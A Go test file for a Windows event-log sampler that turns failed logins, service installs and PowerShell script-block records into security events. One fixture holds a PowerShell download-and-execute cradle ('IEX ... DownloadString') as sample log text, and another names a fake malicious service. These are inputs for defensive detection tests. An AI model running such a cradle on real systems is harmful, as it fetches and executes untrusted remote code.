package sampler

import (
	"context"
	"errors"
	"strings"
	"sync"
	"testing"
	"time"
	"unicode/utf8"
)

type fakeLogProbe struct {
	mu      sync.Mutex
	latest  map[string]uint64
	records map[string][]LogRecord
	queried map[string]bool
}

func newFakeLogProbe() *fakeLogProbe {
	return &fakeLogProbe{
		latest:  make(map[string]uint64),
		records: make(map[string][]LogRecord),
		queried: make(map[string]bool),
	}
}

func (f *fakeLogProbe) Latest(ctx context.Context, channel string) (uint64, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.queried[channel] = true
	latest, ok := f.latest[channel]
	if !ok {
		return 0, errors.New("channel not accessible")
	}
	return latest, nil
}

func (f *fakeLogProbe) ReadSince(ctx context.Context, channel string, after uint64) ([]LogRecord, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.queried[channel] = true
	var out []LogRecord
	for _, rec := range f.records[channel] {
		if rec.RecordID > after {
			out = append(out, rec)
		}
	}
	return out, nil
}

func (f *fakeLogProbe) add(channel string, rec LogRecord) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.records[channel] = append(f.records[channel], rec)
}

func newTestEventLog(t *testing.T, probe LogProbe, privileged bool) *EventLog {
	t.Helper()
	e := NewEventLog(time.Second, probe, privileged, testLogger())
	if err := e.Setup(context.Background()); err != nil {
		t.Fatalf("setup: %v", err)
	}
	return e
}

// Records at or below the setup bookmark never alert.
func TestEventLogBookmarkSilence(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 100
	probe.add("Security", LogRecord{RecordID: 100, EventID: 4625, Strings: make([]string, 20)})
	e := newTestEventLog(t, probe, true)

	events, err := e.Poll(context.Background())
	if err != nil {
		t.Fatalf("poll: %v", err)
	}
	if len(events) != 0 {
		t.Fatalf("historical records emitted %d events", len(events))
	}
}

func TestEventLogFailedLoginExtraction(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 100
	e := newTestEventLog(t, probe, true)

	fields := make([]string, 20)
	fields[5] = "administrator"
	fields[10] = "3"
	fields[13] = "WORKSTATION-7"
	fields[19] = "10.0.0.99"
	probe.add("Security", LogRecord{
		RecordID:    101,
		EventID:     4625,
		TimeCreated: "2026-08-24T10:00:00Z",
		Strings:     fields,
	})

	events, _ := e.Poll(context.Background())
	if len(events) != 1 {
		t.Fatalf("got %d events, want 1", len(events))
	}
	ev := events[0]
	if ev.Source != "eventlog" || ev.Type != "failed_login" {
		t.Errorf("event = %s/%s", ev.Source, ev.Type)
	}
	want := map[string]any{
		"target_user": "administrator",
		"workstation": "WORKSTATION-7",
		"ip_address":  "10.0.0.99",
		"logon_type":  "3",
		"event_id":    4625,
		"channel":     "Security",
	}
	for k, v := range want {
		if ev.Data[k] != v {
			t.Errorf("data[%s] = %v, want %v", k, ev.Data[k], v)
		}
	}

	// The bookmark advanced: a repeat poll stays silent.
	if events, _ := e.Poll(context.Background()); len(events) != 0 {
		t.Fatal("record re-emitted after bookmark advance")
	}
}

func TestEventLogShortStringsFallBack(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 0
	e := newTestEventLog(t, probe, true)

	probe.add("Security", LogRecord{RecordID: 1, EventID: 4625, Strings: []string{"a", "b"}})
	events, _ := e.Poll(context.Background())
	if len(events) != 1 {
		t.Fatalf("got %d events, want 1", len(events))
	}
	if events[0].Data["target_user"] != "unknown" || events[0].Data["ip_address"] != "unknown" {
		t.Errorf("data = %v", events[0].Data)
	}
}

// Uninteresting record ids advance the bookmark silently.
func TestEventLogUninterestingIDsSkipped(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 10
	e := newTestEventLog(t, probe, true)

	probe.add("Security", LogRecord{RecordID: 11, EventID: 4624})
	probe.add("Security", LogRecord{RecordID: 12, EventID: 1102})
	if events, _ := e.Poll(context.Background()); len(events) != 0 {
		t.Fatal("uninteresting ids emitted events")
	}

	// Bookmark moved past them.
	probe.add("Security", LogRecord{RecordID: 13, EventID: 7045, Strings: []string{"EvilSvc", `C:\evil.exe`, "user mode", "auto"}})
	events, _ := e.Poll(context.Background())
	if len(events) != 1 || events[0].Type != "service_installed" {
		t.Fatalf("events = %+v", events)
	}
	if events[0].Data["service_name"] != "EvilSvc" {
		t.Errorf("data = %v", events[0].Data)
	}
}

// Without privilege only the safe channels are read and the sampler reports
// DEGRADED.
func TestEventLogUnprivilegedDegraded(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 5
	probe.latest["Microsoft-Windows-Windows Defender/Operational"] = 5
	probe.latest["Microsoft-Windows-PowerShell/Operational"] = 5
	e := newTestEventLog(t, probe, false)

	if !e.Degraded() {
		t.Error("unprivileged sampler should report degraded")
	}
	if probe.queried["Security"] {
		t.Error("Security channel queried without privilege")
	}

	probe.add("Microsoft-Windows-PowerShell/Operational", LogRecord{
		RecordID: 6,
		EventID:  4104,
		Strings:  []string{"", "", "IEX (New-Object Net.WebClient).DownloadString('http://x')", "", "script.ps1"},
	})
	events, _ := e.Poll(context.Background())
	if len(events) != 1 || events[0].Type != "powershell_script_block" {
		t.Fatalf("events = %+v", events)
	}
	if events[0].Data["script_path"] != "script.ps1" {
		t.Errorf("data = %v", events[0].Data)
	}
}

func TestEventLogPrivilegedNotDegraded(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Security"] = 1
	probe.latest["Microsoft-Windows-Windows Defender/Operational"] = 1
	probe.latest["Microsoft-Windows-PowerShell/Operational"] = 1
	e := newTestEventLog(t, probe, true)

	if e.Degraded() {
		t.Error("privileged sampler reported degraded")
	}
	state := e.State()
	if channels := state["channels"].([]string); len(channels) != 3 {
		t.Errorf("channels = %v", channels)
	}
}

func TestEventLogScriptBlockTruncated(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Microsoft-Windows-PowerShell/Operational"] = 0
	e := newTestEventLog(t, probe, false)

	long := make([]byte, 2000)
	for i := range long {
		long[i] = 'A'
	}
	probe.add("Microsoft-Windows-PowerShell/Operational", LogRecord{
		RecordID: 1,
		EventID:  4104,
		Strings:  []string{"", "", string(long), "", ""},
	})

	events, _ := e.Poll(context.Background())
	if len(events) != 1 {
		t.Fatalf("got %d events", len(events))
	}
	if got := events[0].Data["script_block"].(string); len(got) != 500 {
		t.Errorf("script_block length = %d, want 500", len(got))
	}
}

// Truncation counts runes, so a multi-byte script block is cut on a rune
// boundary and stays valid UTF-8.
func TestEventLogScriptBlockTruncatedOnRuneBoundary(t *testing.T) {
	probe := newFakeLogProbe()
	probe.latest["Microsoft-Windows-PowerShell/Operational"] = 0
	e := newTestEventLog(t, probe, false)

	long := strings.Repeat("ñ", 600) // 2 bytes per rune
	probe.add("Microsoft-Windows-PowerShell/Operational", LogRecord{
		RecordID: 1,
		EventID:  4104,
		Strings:  []string{"", "", long, "", ""},
	})

	events, _ := e.Poll(context.Background())
	if len(events) != 1 {
		t.Fatalf("got %d events", len(events))
	}
	got := events[0].Data["script_block"].(string)
	if !utf8.ValidString(got) {
		t.Fatal("truncated script_block is not valid UTF-8")
	}
	if n := utf8.RuneCountInString(got); n != 500 {
		t.Errorf("script_block runes = %d, want 500", n)
	}
}
